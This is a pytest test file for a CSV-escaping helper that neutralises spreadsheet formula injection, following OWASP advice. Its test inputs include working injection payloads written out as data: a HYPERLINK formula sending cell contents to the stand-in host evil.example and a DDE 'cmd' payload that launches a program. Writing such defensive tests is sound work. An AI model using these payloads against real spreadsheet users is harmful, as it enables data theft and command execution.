"""Spreadsheet-safe CSV cells: text a spreadsheet would evaluate gets a leading apostrophe;
numbers stay numbers (the expected cells follow OWASP's CSV-injection advice, written out by hand)."""

from __future__ import annotations

import csv
import io

import pytest

from maikit.csvsafe import csv_cell, csv_text


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+1+1", "'+1+1"),
    ("-1+2", "'-1+2"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("-inf", "'-inf"),
    (float("-inf"), "'-inf"),
    # numbers (as numbers or as their text) are what a spreadsheet reads as numbers
    (-1.5, "-1.5"), ("-1.5", "-1.5"), (-2, "-2"), ("+3", "+3"), (-2e-05, "-2e-05"), (".5", ".5"),
    (0.25, "0.25"), (17, "17"),
    # the rest as it is
    ("team a", "team a"), ("a=b", "a=b"), ("", ""), (None, ""), (True, "True"),
])
def test_cells(value, cell):
    assert csv_cell(value) == cell


def test_rows_quote_as_rfc4180_and_read_back():
    rows = [{"team": '=HYPERLINK("x","y")', "score": -0.5, "note": "a,b"}, {"team": "plain"}]
    text = csv_text(rows, ["team", "score", "note"])
    assert text.splitlines()[0] == "team,score,note"
    back = list(csv.reader(io.StringIO(text)))
    assert back[1] == ['\'=HYPERLINK("x","y")', "-0.5", "a,b"]
    assert back[2] == ["plain", "", ""]
